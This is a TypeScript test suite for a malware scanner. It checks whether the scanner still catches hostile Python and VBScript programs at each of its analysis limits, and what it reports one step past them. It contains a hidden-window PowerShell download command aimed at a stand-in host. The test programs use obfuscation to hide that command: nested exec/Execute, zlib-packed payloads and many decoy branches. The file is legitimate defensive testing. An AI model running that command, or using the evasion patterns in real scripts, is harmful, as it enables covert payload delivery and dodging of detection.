/** At a limit of an evaluator a command is followed; one past it, the program is not clean. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { deflateSync } from 'node:zlib'
import { NESTING_MAX as TEXT_DEPTH_MAX } from '#inspect/programs/basic/basic.ts'
import { ANYWHERE_MAX as LIST_MAX } from '#inspect/programs/basic/evaluate.ts'
import { ANYWHERE_MAX as DICTIONARY_MAX } from '#inspect/programs/basic/objects.ts'
import { PATTERN_MAX } from '#inspect/programs/basic/patterns.ts'
import { ALTERNATIVES_MAX, COMBINATIONS_MAX, REMEMBERED_MAX } from '#inspect/programs/basic/values.ts'
import { INFLATED_MAX } from '#inspect/programs/inflated.ts'
import { DEPTH_MAX } from '#inspect/programs/python/expressions.ts'
import { ITEMS_MAX } from '#inspect/programs/python/functions.ts'
import { EFFECTS_MAX } from '#inspect/programs/python/machine.ts'
import { CODE_DEPTH_MAX, TEXTS_MAX } from '#inspect/programs/python/python.ts'
import { ALTERNATIVES_MAX as PYTHON_ALTERNATIVES_MAX, TEXT_MAX } from '#inspect/programs/python/values.ts'
import { ourInspector } from '#inspect/testing/inspector.ts'

const inspector = await ourInspector()
const EVIL = 'powershell -w hidden iwr http://192.0.2.1/a'
const E = JSON.stringify(EVIL)
const each = (count: number, of: (index: number) => string): string =>
  Array.from({ length: count }, (_, i) => of(i)).join('')

type Outcome = 'infected' | 'too_complex' | 'clean'

function outcomeOf(source: string, name: string): Outcome {
  const { findings, obstacle } = inspector.inspect(Buffer.from(source, 'latin1'), { name })
  if (findings[0]?.severity === 'malicious') return 'infected'
  return obstacle === null ? 'clean' : 'too_complex'
}

interface Row {
  limit: string
  max: number
  /** A program that reaches the limit with this count. */
  of: (count: number) => string
  /** One past it. */
  past: Outcome
}

function nested(depth: number): string {
  return depth === 0 ? `import os\nos.system(${E})` : `exec(${JSON.stringify(nested(depth - 1))})`
}

const PYTHON: readonly Row[] = [
  {
    limit: 'characters of a text',
    // The evaluation keeps some copies of it, and reaches its share of memory first.
    max: TEXT_MAX / 2,
    of: (count) => `import os\nt = "x" * ${count - EVIL.length} + ${E}\nos.system(t[${count - EVIL.length}:])\n`,
    past: 'infected',
  },
  {
    limit: 'recorded calls',
    max: EFFECTS_MAX,
    of: (count) => `import os\n${each(count - 1, (i) => `os.system("notepad ${i}.txt")\n`)}os.system(${E})\n`,
    past: 'too_complex',
  },
  {
    limit: 'items of a list',
    max: ITEMS_MAX,
    of: (count) => `import os\nl = ["x"] * ${count - 1} + [${E}]\nos.system(l[-1])\n`,
    past: 'infected',
  },
  {
    limit: 'brackets within each other',
    max: DEPTH_MAX - 2,
    of: (count) => `import os\nos.system(${'('.repeat(count)}${E}${')'.repeat(count)})\n`,
    past: 'too_complex',
  },
  { limit: 'code within code', max: CODE_DEPTH_MAX, of: nested, past: 'too_complex' },
  {
    limit: 'inflated bytes',
    max: INFLATED_MAX,
    of: (count) => {
      const packed = deflateSync('x'.repeat(count - EVIL.length) + EVIL).toString('base64')
      return `import os, zlib, base64\nd = zlib.decompress(base64.b64decode("${packed}"))\nos.system(d[-${EVIL.length}:].decode())\n`
    },
    past: 'infected',
  },
  {
    limit: 'texts, of which any may be started',
    max: TEXTS_MAX,
    of: (count) => {
      const chosen = (what: string): string =>
        each(PYTHON_ALTERNATIVES_MAX + 4, (i) => `if x.${what} == ${i}: s = "notepad ${i}.${what}"\n`)
      const others = each(count - 2 * (PYTHON_ALTERNATIVES_MAX + 4) - 1, (i) => `a${i} = "some text ${i}"\n`)
      return `import os\n${others}${chosen('y')}if x.z: s = ${E}\n${chosen('w')}os.system(s)\n`
    },
    past: 'infected',
  },
  {
    limit: 'texts, of which each looks like a command',
    max: TEXTS_MAX,
    of: (count) => {
      const chosen = each(count - 1, (i) => `if x.y == ${i}: s = "curl --version ${i}"\n`)
      return `import os\n${chosen}if x.z: s = ${E}\n${each(40, (i) => `if x.w == ${i}: s = "curl --version ${i}"\n`)}os.system(s)\n`
    },
    past: 'too_complex',
  },
]

const run = (value: string): string => `CreateObject("WScript.Shell").Run ${value}\r\n`

/** A script that runs a text, which runs a text. */
function executed(depth: number): string {
  return depth === 0
    ? run(E)
    : `Execute "${executed(depth - 1)
        .replaceAll('"', '""')
        .replaceAll('\r\n', ': ')}"\r\n`
}

const BASIC: readonly Row[] = [
  {
    limit: 'texts that are run within each other',
    max: TEXT_DEPTH_MAX,
    of: executed,
    past: 'infected',
  },
  {
    limit: 'combinations of values',
    max: COMBINATIONS_MAX,
    of: (count) =>
      `a = ${E.slice(0, 5)}"\r\n${each(count / 8 - 1, (i) => `If Hour(Now) = ${i} Then a = "note${i}"\r\n`)}b = "${EVIL.slice(4)}"\r\n${each(7, (i) => `If Hour(Now) = ${i} Then b = "pad${i}"\r\n`)}${run('a & b')}`,
    past: 'infected',
  },
  {
    limit: 'values of a variable',
    max: ALTERNATIVES_MAX,
    of: (count) =>
      `${each(count - 1, (i) => `If Hour(Now) = ${i} Then s = "notepad ${i}.txt"\r\n`)}If Hour(Now) > 50 Then s = ${E}\r\n${run('s')}`,
    past: 'infected',
  },
  {
    limit: 'values of a variable that are remembered',
    max: REMEMBERED_MAX,
    of: (count) =>
      `${each(count - 1, (i) => `If Hour(Now) = ${i} Then s = "notepad ${i}.txt"\r\n`)}If Hour(Now) > 50 Then s = ${E}\r\n${run('s')}`,
    past: 'infected',
  },
  {
    limit: 'elements of a list at an unknown place',
    max: LIST_MAX,
    of: (count) =>
      `Dim a(${count - 1})\r\nFor i = 0 To ${count - 2}\r\na(i) = "notepad " & i\r\nNext\r\na(${count - 1}) = ${E}\r\n${run('a(Hour(Now))')}`,
    past: 'infected',
  },
  {
    limit: 'elements of a list of which an unknown one is set',
    max: LIST_MAX,
    of: (count) =>
      `Dim a(${count - 1})\r\nFor i = 0 To ${count - 1}\r\na(i) = "notepad " & i\r\nNext\r\na(Hour(Now)) = ${E}\r\n${run('a(7)')}`,
    past: 'infected',
  },
  {
    limit: 'elements of a dictionary by an unknown key',
    max: DICTIONARY_MAX,
    of: (count) =>
      `Set d = CreateObject("Scripting.Dictionary")\r\n${each(count - 1, (i) => `d.Add "k${i}", "notepad ${i}"\r\n`)}d.Add "x", ${E}\r\n${run('d(CStr(Hour(Now)))')}`,
    past: 'infected',
  },
  {
    limit: 'characters of a pattern',
    max: PATTERN_MAX,
    of: (count) =>
      `Set r = New RegExp\r\nr.Global = True\r\nr.Pattern = "${'z'.repeat(count)}"\r\ns = r.Replace("power${'z'.repeat(count)}shell -w hidden iwr http://192.0.2.1/a", "")\r\n${run('s')}`,
    past: 'too_complex',
  },
]

for (const [language, file, rows] of [
  ['Python', 'a.py', PYTHON],
  ['VBScript', 'a.vbs', BASIC],
] as const)
  suite(`limits of ${language}`, () => {
    for (const { limit, max, of, past } of rows)
      test(limit, () => {
        assert.equal(outcomeOf(of(max), file), 'infected', 'at the limit')
        assert.equal(outcomeOf(of(max + 1), file), past, 'one past it')
      })
  })
